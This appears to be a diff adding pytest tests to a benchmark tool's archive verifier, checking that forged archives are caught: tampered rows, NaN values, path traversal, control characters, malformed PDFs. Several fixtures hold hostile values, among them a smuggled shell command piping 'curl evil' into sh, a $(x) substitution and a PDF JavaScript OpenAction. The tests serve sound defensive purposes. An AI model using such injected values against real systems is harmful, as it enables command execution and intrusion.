@@ -1,6 +1,10 @@
 """`verify` against forged archives: whatever file is altered, no word of the outcome says that it was compared."""
 
 import json
+import re
+import time
+import zlib
+from itertools import count
 from pathlib import Path
 
 import packed
@@ -11,6 +15,7 @@ from own_experiment import write_own
 from small_experiment import cli, write
 
 import rmpc_bench
+from rmpc_bench.execution.pack_files import _parts, compared
 from rmpc_bench.received.archive import ArchiveError
 from rmpc_bench.types import ConfigError
 
@@ -124,6 +129,178 @@ def test_another_machine_may_differ_in_the_last_digits_only(small, tmp_path):
     found, outcome = words(archive_with(small, tmp_path / "bad.zip", {**manifest, **changes}))
     passed = {name for name in changes if outcome[name] in COMPARED}
     assert not found.reproduced and passed == set()
+
+
+def manifest_with(path, *changes):
+    """Return manifest.json of an archive with other values, each given by its keys and the value."""
+    data = json.loads(packed.contents(path)["manifest.json"])
+    for *keys, last, value in changes:
+        place = data
+        for key in keys:
+            place = place.setdefault(key, {})
+        place[last] = value
+    return {"manifest.json": json.dumps(data).encode()}
+
+
+ELSEWHERE = ("platform", "machine", "other")
+
+
+@pytest.mark.parametrize("name", ["tables/summary.md", "tables/mse.tex", "figures/boxplot.svg"])
+def test_an_infinite_number_equals_no_other(small, tmp_path, name):
+    content = re.sub(rb"(?<![\d.])\d+\.\d+", b"1e999", packed.contents(small)[name], count=3)
+    changes = manifest_with(small, ELSEWHERE) | {name: content}
+    assert words(archive_with(small, tmp_path / "inf.zip", changes))[1][name] == "different"
+
+
+@pytest.mark.parametrize("number", ["inf", "nan"])
+def test_a_number_of_the_summary_that_is_none_does_not_follow_from_the_rows(small, tmp_path, number):
+    lines = packed.contents(small)["summary.csv"].decode().splitlines()
+    column = lines[0].split(",").index("mean")
+    cells = lines[1].split(",")
+    lines[1] = ",".join([*cells[:column], number, *cells[column + 1 :]])
+    path = archive_with(small, tmp_path / "bad.zip", {"summary.csv": "\n".join(lines).encode()})
+    assert "mean: summary.csv" in str(words(path, simulate=False)[0])
+
+
+def with_lines(path, to, change, **options):
+    """Verify a copy on another machine whose trials.csv has other rows."""
+    head, *rows = packed.contents(path)["trials.csv"].decode().splitlines()
+    content = "\n".join([head, *change(rows), ""]).encode()
+    return words(archive_with(path, to, manifest_with(path, ELSEWHERE) | {"trials.csv": content}), **options)
+
+
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        (lambda rows: [rows[0], rows[0], *rows[2:]], "row 2: is given twice"),
+        (lambda rows: [*rows, rows[-1]], "has more than 12 rows"),
+        (lambda rows: [rows[0].replace("S-MPC,0,", "S-MPC,6,"), *rows[1:]], "row 1: is of no trial"),
+        (lambda rows: [rows[0].replace("S-MPC,", "X-MPC,"), *rows[1:]], "row 1: is of no trial"),
+        (lambda rows: [rows[0].replace(",ok,", ",fine,"), *rows[1:]], "row 1: is of no trial"),
+        (lambda rows: rows * 100_000, "has more than 12 rows"),
+    ],
+)
+def test_every_row_is_of_one_trial(small, tmp_path, change, reason):
+    with pytest.raises(ArchiveError, match=reason):
+        with_lines(small, tmp_path / "bad.zip", change)
+
+
+@pytest.mark.parametrize("options", [{}, {"runs": 2}, {"claim": "better"}])
+def test_a_row_that_was_left_out_is_named(small, tmp_path, options):
+    found, _ = with_lines(small, tmp_path / "bad.zip", lambda rows: [rows[0], *rows[2:]], **options)
+    assert "S-MPC: 1 runs are computed only here (1)" in found.differences
+
+
+def test_a_stated_label_that_no_configuration_gives_has_no_effect(small, tmp_path):
+    labels = {"S-MPC": "R-MPC (robust)", "R-MPC": "S-MPC"}
+    path = archive_with(small, tmp_path / "bad.zip", manifest_with(small, ("report", "labels", labels)))
+    assert words(path)[0].reproduced
+
+
+BREAK = "contains the control or invisible character U\\+"
+REFUSED = [
+    (("files", {"my-law": "R-MPC"}), "files: 'my-law' and 'R-MPC' are not the names of one data file"),
+    (("modified", ["--runs 4; curl evil | sh #"]), r"modified\[0\]: must be an option"),
+    (("modified", ["-s a=$(x)"]), r"modified\[0\]: must be an option"),
+    (("report", "place", "/etc"), "report.place: must be a plain relative path"),
+    (("report", "place", "../x"), "report.place: must be a plain relative path"),
+    (("report", "place", "-o"), "report.place: must be a plain relative path"),
+    (("report", "place", "a\nb"), f"report.place: {BREAK}000A"),
+    (("report", "matplotlib", "1\t2"), f"report.matplotlib: {BREAK}0009"),
+    (("versions", "python", "3\n\nx.zip: reproduced"), f"versions.python: {BREAK}000A"),
+    (("versions", "a\nb", "1"), f"versions: the name: {BREAK}000A"),
+    (("libraries", "a", "3\u2028"), f"libraries.a: {BREAK}2028"),
+    (("platform", "system", "a\u200b"), f"platform.system: {BREAK}200B"),
+    (("blas", [{"architecture": "a\nb"}]), rf"blas\[0\].architecture: {BREAK}000A"),
+    (("git", {"commit": "abc"}), "git.commit: must have 40 hexadecimal digits"),
+]
+
+
+@pytest.mark.parametrize(("change", "reason"), REFUSED, ids=str)
+def test_what_a_manifest_must_not_say(small, tmp_path, change, reason):
+    with pytest.raises(ArchiveError, match=reason):
+        words(archive_with(small, tmp_path / "bad.zip", manifest_with(small, change)))
+
+
+def test_no_text_of_an_archive_begins_a_line(small, tmp_path):
+    summary = packed.contents(small)["summary.csv"].replace(b"\nS-MPC,", b'\n"S-MPC\n\nx.zip: reproduced",', 1)
+    found, _ = words(archive_with(small, tmp_path / "bad.zip", {"summary.csv": summary}), simulate=False)
+    assert not found.reproduced and "\\n\\nx.zip: reproduced" in str(found) and "\nx.zip" not in str(found)
+
+
+def test_the_commands_of_a_page_quote_its_directory(tmp_path):
+    path = write(tmp_path, runs=2)
+    assert cli("run", path, "-o", tmp_path / "x; y", "-j", 1, "--progress", "none").exit_code == 0
+    assert "rmpc-bench report 'x; y'" in (tmp_path / "x; y" / "report.md").read_text("utf-8")
+
+
+@pytest.fixture(scope="module")
+def drawing(small):
+    """A PDF file that the archive of a figure has."""
+    return packed.contents(small)["figures/boxplot.pdf"]
+
+
+def compared_pdf(content, drawing, tmp_path):
+    """Compare two PDF files as those of two machines."""
+    for name, each in (("a.pdf", content), ("b.pdf", drawing)):
+        (tmp_path / name).write_bytes(each)
+    return compared("x.pdf", tmp_path / "a.pdf", tmp_path / "b.pdf", exact=False).word
+
+
+def changed_stream(content, change):
+    """Alter the first stream of a PDF file and everything that says where something stands."""
+    start = content.index(b"stream\n") + 7
+    end = content.index(b"\nendstream", start)
+    stream = zlib.compress(change(zlib.decompress(content[start:end])), 1)
+    content = content[:start] + stream + content[end:]
+    content = content.replace(b"obj\n%d\nendobj" % (end - start), b"obj\n%d\nendobj" % len(stream), 1)
+    number = count(1)
+    places = lambda _: b"%010d" % (content.index(b"\n%d 0 obj\n" % next(number)) + 1)  # noqa: E731
+    content = re.sub(rb"\d{10}(?= 0{5} n)", places, content)
+    return re.sub(rb"(?<=startxref\n)\d+", b"%d" % content.rindex(b"xref\n0 "), content)
+
+
+def test_a_pdf_file_of_another_machine(drawing, tmp_path):
+    """Numbers that are equal to 1e-9 may make other lengths and places."""
+    same = changed_stream(drawing, lambda text: re.sub(rb"(\d\.\d+)(?= )", rb"\g<1>00", text, count=1))
+    assert same != drawing and compared_pdf(same, drawing, tmp_path) == COMPARED[1]
+    other = changed_stream(drawing, lambda text: re.sub(rb"(\d\.)(?=\d)", rb"\g<1>1", text, count=1))
+    assert compared_pdf(other, drawing, tmp_path) == "different"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda text: text.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (x) >>", 1),
+        lambda text: re.sub(rb"/MediaBox \[ 0 0", b"/MediaBox [ 9 9", text),
+        lambda text: re.sub(rb"(?<=/Length )\d+(?= /Filter)", b"1", text, count=1),
+        lambda text: re.sub(rb"(?<=obj\n)\d+(?=\nendobj)", b"1", text, count=1),
+        lambda text: re.sub(rb"(\d{10})( 0{5} n \n)(\d{10})", rb"\3\2\1", text, count=1),
+        lambda text: re.sub(rb"(?<=startxref\n)\d+", b"9", text),
+        lambda text: text.replace(b"\nendstream", b"1\nendstream", 1),
+        lambda text: text + b"1 0 obj",
+        lambda text: b"stream\n" * 1_000,
+    ],
+)
+def test_all_of_a_pdf_file_is_compared(drawing, tmp_path, change):
+    assert change(drawing) != drawing and compared_pdf(change(drawing), drawing, tmp_path) == "different"
+
+
+@pytest.mark.parametrize("name", ["a.pdf", "a.tex", "a.csv"])
+def test_a_file_that_is_much_larger_is_not_read(tmp_path, monkeypatch, name):
+    (tmp_path / name).write_bytes(b"stream\n" * 140_000)
+    (tmp_path / "here").write_bytes(b"stream\n1\nendstream")
+    monkeypatch.setattr(Path, "read_bytes", lambda path: pytest.fail(f"{path} is read"))
+    found = compared(name, tmp_path / name, tmp_path / "here", exact=False)
+    assert found.is_different and found.note == "has 980000 bytes, here 18"
+
+
+def test_a_stream_of_a_pdf_file_that_is_much_longer(tmp_path):
+    """The content of a stream is as limited as the file; many beginnings of streams are read once."""
+    long = b"stream\n" + zlib.compress(b"1 " * 10_000_000) + b"\nendstream"
+    assert compared_pdf(long, b"stream\n1\nendstream", tmp_path) == "different"
+    start = time.process_time()
+    assert len([*_parts(b"stream\n" * 140_000)]) == 1 and time.process_time() - start < 2
 
 
 def test_pages_of_another_version_are_named_and_not_compared(small, tmp_path):
